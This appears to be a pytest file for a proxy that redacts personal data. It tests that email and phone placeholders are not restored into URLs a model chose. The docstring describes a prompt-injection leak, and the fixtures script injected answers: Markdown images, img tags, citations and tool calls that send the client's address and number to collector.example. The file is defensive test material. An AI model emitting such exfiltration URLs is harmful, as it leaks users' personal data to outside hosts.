"""Restore writes no client value into a URL the model chose, end to end through the SDKs (issue 12, atk9 A-L2).

The client sends `My email is jane.doe@example.com and my phone is 617-555-0143`; the provider sees
`<EMAIL_ADDRESS_1>` and `<PHONE_NUMBER_1>`. A prompt-injected model answers with a Markdown image, an HTML `img`, a
`url_citation` and tool arguments whose URLs carry the placeholders: the client got them back with its real address
and number in the query string, and a renderer fetching the image handed both to collector.example. Now the
placeholders inside such URLs stay as they are, whole answers and streams alike (placeholders cut into 3-character
pieces), while the same values in the answer's prose, `mailto:`/`tel:` links and the URL the client sent itself
come back restored.
"""

from __future__ import annotations

import json
from typing import Any

import httpx
import pytest

from tests.conftest import Mock, Proxy, ProxyFactory
from tests.support.clients import (
    RESTORE_ONLY_POLICY,
    SCREENED_POLICY,
    chat_text_and_arguments,
    claude,
    data_events,
    oai,
    responses_text_and_calls,
    sse,
)

MAIL = "jane.doe@example.com"
PHONE = "617-555-0143"
E, P = "<EMAIL_ADDRESS_1>", "<PHONE_NUMBER_1>"
PROMPT = f"My email is {MAIL} and my phone is {PHONE}. Summarise my account."
IMAGE = f"https://collector.example/p.png?u={E}&t={P}"
CITED = f"https://collector.example/c?u={E}"
FETCH = f"https://collector.example/?u={E}"
# What the injected model answers: placeholders in URLs (kept) and in prose and mailto/tel links (restored).
SAID = (f"Done. ![status]({IMAGE})\n<img src=\"//collector.example/i.gif?t={P}\"> "
        f"Your address is {E}, [mail]({'mailto:' + E}), [call](tel:{P}).")
WANT = (f"Done. ![status]({IMAGE})\n<img src=\"//collector.example/i.gif?t={P}\"> "
        f"Your address is {MAIL}, [mail](mailto:{MAIL}), [call](tel:{PHONE}).")
# A URL field without a scheme is a URL all the same (decoded whole, or read as its JSON key streams by).
ARGS = {"url": FETCH, "image_url": f"collector.example/i?t={P}", "to": E, "note": f"call {P}"}
# scopes16: the call names collector.example, so it is a scope that sends: every placeholder in it stays, `to` and
# `note` too (README "a scope that sends").
WANT_ARGS = dict(ARGS)
# The same values in a call that names no destination come back restored.
LOCAL_ARGS = {"to": E, "note": f"call {P}"}
WANT_LOCAL = {"to": MAIL, "note": f"call {PHONE}"}

@pytest.fixture(scope="module", params=["screened", "restore_only"])
def urls(request: pytest.FixtureRequest, proxy_factory: ProxyFactory) -> Proxy:
    policy = SCREENED_POLICY if request.param == "screened" else RESTORE_ONLY_POLICY
    return proxy_factory(files={"policies/default.yaml": policy})


def sent_placeholders(mock: Mock) -> None:
    sent = json.dumps(mock.last_body)
    assert E in sent and P in sent and MAIL not in sent and PHONE not in sent


# ------------------------------------------------------------------------------------- SDKs, scripted answers


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_chat(mock: Mock, urls: Proxy, stream: bool) -> None:
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "fetch", "arguments": ARGS}])
    text, arguments = chat_text_and_arguments(oai(urls), PROMPT, stream)
    sent_placeholders(mock)
    assert text == WANT
    assert json.loads(arguments) == WANT_ARGS
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": LOCAL_ARGS}])
    text, arguments = chat_text_and_arguments(oai(urls), PROMPT, stream)
    assert text == WANT
    assert json.loads(arguments) == WANT_LOCAL


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_responses(mock: Mock, urls: Proxy, stream: bool) -> None:
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "fetch", "arguments": ARGS}])
    text, calls = responses_text_and_calls(oai(urls), PROMPT, stream)
    sent_placeholders(mock)
    assert text == WANT
    assert calls == [WANT_ARGS]
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": LOCAL_ARGS}])
    text, calls = responses_text_and_calls(oai(urls), PROMPT, stream)
    assert text == WANT
    assert calls == [WANT_LOCAL]


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_anthropic(mock: Mock, urls: Proxy, stream: bool) -> None:
    for args, want in ((ARGS, WANT_ARGS), (LOCAL_ARGS, WANT_LOCAL)):
        anthropic_answer(mock, urls, stream, args, want)


def anthropic_answer(mock: Mock, urls: Proxy, stream: bool, args: dict[str, Any], want: dict[str, Any]) -> None:
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "fetch", "arguments": args}])
    client = claude(urls).messages
    msgs: Any = [{"role": "user", "content": PROMPT}]
    if stream:
        with client.stream(model="claude-3-5-haiku-latest", max_tokens=300, messages=msgs) as s:
            events = list(s)
            final = s.get_final_message()
        partial = "".join(e.delta.partial_json for e in events if e.type == "content_block_delta"
                          and e.delta.type == "input_json_delta")
        assert json.loads(partial) == want
    else:
        final = client.create(model="claude-3-5-haiku-latest", max_tokens=300, messages=msgs)
    sent_placeholders(mock)
    assert "".join(b.text for b in final.content if b.type == "text") == WANT
    assert [b.input for b in final.content if b.type == "tool_use"] == [want]


# ------------------------------------------------------------------------------------- url_citation annotations


def chat_body() -> str:
    return json.dumps({
        "id": "chatcmpl-1", "object": "chat.completion", "created": 1700000000, "model": "gpt-4o-mini",
        "choices": [{"index": 0, "finish_reason": "stop", "message": {
            "role": "assistant", "content": SAID, "annotations": [
                {"type": "url_citation", "url_citation": {"url": CITED, "title": "t", "start_index": 0,
                                                          "end_index": 4}},
                {"type": "url_citation", "url_citation": {"url": f"collector.example/n?u={E}", "title": "n",
                                                          "start_index": 0, "end_index": 4}}]}}],
        "usage": {"prompt_tokens": 5, "completion_tokens": 5, "total_tokens": 10}})


def test_chat_url_citation(mock: Mock, urls: Proxy) -> None:
    mock.script(raw_body=chat_body())
    message = oai(urls).chat.completions.create(
        model="gpt-4o-mini", messages=[{"role": "user", "content": PROMPT}]).choices[0].message
    assert message.content == WANT
    cited = [a.url_citation.url for a in message.annotations or []]
    assert cited == [CITED, f"collector.example/n?u={E}"]  # a URL field is a URL whole, scheme or not


RESPONSE = {"id": "resp_1", "object": "response", "created_at": 1733234567, "status": "in_progress",
            "model": "gpt-4o-mini", "output": []}
NOTE = {"type": "url_citation", "url": CITED, "title": "t", "start_index": 0, "end_index": 4}


def message_item(annotations: list[dict[str, Any]]) -> dict[str, Any]:
    return {"type": "message", "id": "msg_1", "status": "completed", "role": "assistant",
            "content": [{"type": "output_text", "text": SAID, "annotations": annotations}]}


def test_responses_url_citation_whole(mock: Mock, urls: Proxy) -> None:
    mock.script(raw_body=json.dumps({**RESPONSE, "status": "completed", "output": [message_item([NOTE])]}))
    final = oai(urls).responses.create(model="gpt-4o-mini", input=PROMPT)
    assert final.output_text == WANT
    part = final.output[0].content[0]  # type: ignore[union-attr]
    assert [a.url for a in part.annotations] == [CITED]  # type: ignore[union-attr]


def test_responses_url_citation_stream(mock: Mock, urls: Proxy) -> None:
    where = {"item_id": "msg_1", "output_index": 0, "content_index": 0}
    pieces = [SAID[i:i + 3] for i in range(0, len(SAID), 3)]
    events: list[dict[str, Any]] = [
        {"type": "response.created", "response": RESPONSE},
        {"type": "response.output_item.added", "output_index": 0,
         "item": {**message_item([]), "status": "in_progress", "content": []}},
        {"type": "response.content_part.added", **where, "part": {"type": "output_text", "text": "",
                                                                   "annotations": []}},
        *({"type": "response.output_text.delta", **where, "delta": d} for d in pieces),
        {"type": "response.output_text.annotation.added", **where, "annotation_index": 0, "annotation": NOTE},
        {"type": "response.output_text.done", **where, "text": SAID},
        {"type": "response.content_part.done", **where, "part": message_item([NOTE])["content"][0]},
        {"type": "response.output_item.done", "output_index": 0, "item": message_item([NOTE])},
        {"type": "response.completed", "response": {**RESPONSE, "status": "completed",
                                                    "output": [message_item([NOTE])]}}]
    for n, e in enumerate(events):
        e["sequence_number"] = n
    mock.script(raw_sse=sse(*events, named=True))
    r = httpx.post(f"{urls.url}/v1/responses", json={"model": "gpt-4o-mini", "input": PROMPT, "stream": True},
                   headers={"Authorization": "Bearer sk-x"}, timeout=30)
    assert r.status_code == 200, r.text
    got = data_events(r.text)
    assert "".join(e["delta"] for e in got if e["type"] == "response.output_text.delta") == WANT
    notes = [e["annotation"]["url"] for e in got if e["type"] == "response.output_text.annotation.added"]
    done = next(e for e in got if e["type"] == "response.completed")["response"]["output"][0]["content"][0]
    assert notes == [CITED] and done["annotations"][0]["url"] == CITED and done["text"] == WANT
    assert f"u={MAIL}" not in r.text and f"t={PHONE}" not in r.text  # in no URL of any event


# ------------------------------------------------------------------------------------- the client's own URL


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_the_clients_own_url_comes_back_whole(mock: Mock, urls: Proxy, stream: bool) -> None:
    """The mock echoes the prompt: a URL the client sent with its address in it is restored as it was sent."""
    prompt = f"Open https://crm.example/u?email={MAIL}&tab=2 and mail {MAIL}."
    mock.script(chunk_chars=3)
    client = oai(urls).chat.completions
    msgs: Any = [{"role": "user", "content": prompt}]
    if stream:
        text = "".join(c.choices[0].delta.content or "" for c in
                       client.create(model="gpt-4o-mini", messages=msgs, stream=True) if c.choices)
    else:
        text = client.create(model="gpt-4o-mini", messages=msgs).choices[0].message.content or ""
    assert mock.last_body["messages"][0]["content"] == f"Open https://crm.example/u?email={E}&tab=2 and mail {E}."
    assert text == f"You said: {prompt}"
